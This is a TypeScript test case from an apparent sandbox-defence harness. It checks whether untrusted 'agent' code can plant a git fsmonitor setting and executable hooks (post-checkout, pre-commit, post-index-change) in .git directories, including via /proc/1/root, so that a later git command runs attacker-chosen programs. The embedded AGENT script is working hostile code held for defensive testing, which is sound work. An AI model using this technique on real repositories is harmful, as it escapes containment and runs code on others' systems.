import { type HostileCase, judge } from '../case.ts';
import { runInside } from '../kit/inside.ts';
import { makePull, plainGit } from '../kit/repository.ts';
import { rawView, readPull } from '../kit/view.ts';

/** Writes settings and hooks wherever a `.git` may be: in the view, at the workspace's path, by the root of process 1. */
const AGENT = `
const fs = require('node:fs');
const [view, workspace, fsmonitor, hook] = process.argv.slice(2);
for (const top of [view, workspace, '/proc/1/root' + workspace, process.cwd() + '/..']) {
  try { fs.appendFileSync(top + '/.git/config', '[core]\\n\\tfsmonitor = ' + fsmonitor + '\\n'); console.log('config of ' + top); } catch {}
  for (const name of ['post-checkout', 'pre-commit', 'post-index-change'])
    try { fs.writeFileSync(top + '/.git/hooks/' + name, '#!/bin/sh\\nexec ' + hook + '\\n', { mode: 0o755 }); } catch {}
  try { fs.writeFileSync(top + '/.git/poison', ''); } catch {}
}
for (const name of ['.git', '.git/hooks']) try { fs.mkdirSync(view + '/' + name); console.log('made ' + name); } catch {}
`;

export const hostile: HostileCase = {
  number: 24,
  title: 'The agent writes settings and hooks that a later git would run',
  area: 'git',
  lanes: ['userns', 'root'],
  async attack(place, defence) {
    const [settings, hooks] = [place.marker('settings'), place.marker('hooks')];
    const pull = makePull(place, { head: { 'a.ts': 'a\n' } });
    const workspace = pull.checkout();
    const view = defence === 'off' ? rawView(workspace) : (await readPull(place, pull, workspace)).view;
    const run = await runInside(place, defence, {
      view: view.directory,
      source: AGENT,
      args: [workspace, settings.program, hooks.program],
    });
    // The job's later steps, the checkout action's own clean-up among them, use git as it comes.
    for (const command of ['status', 'checkout --quiet HEAD', 'checkout --quiet -b x'])
      await plainGit(workspace, command.split(' '));
    return judge(defence, {
      settings: settings.isMarked() ? 'ran in a later git' : null,
      hooks: hooks.isMarked() ? 'ran in a later git' : null,
      written: run.out.trim() === '' ? null : run.out.trim().replaceAll('\n', ', '),
    });
  },
};
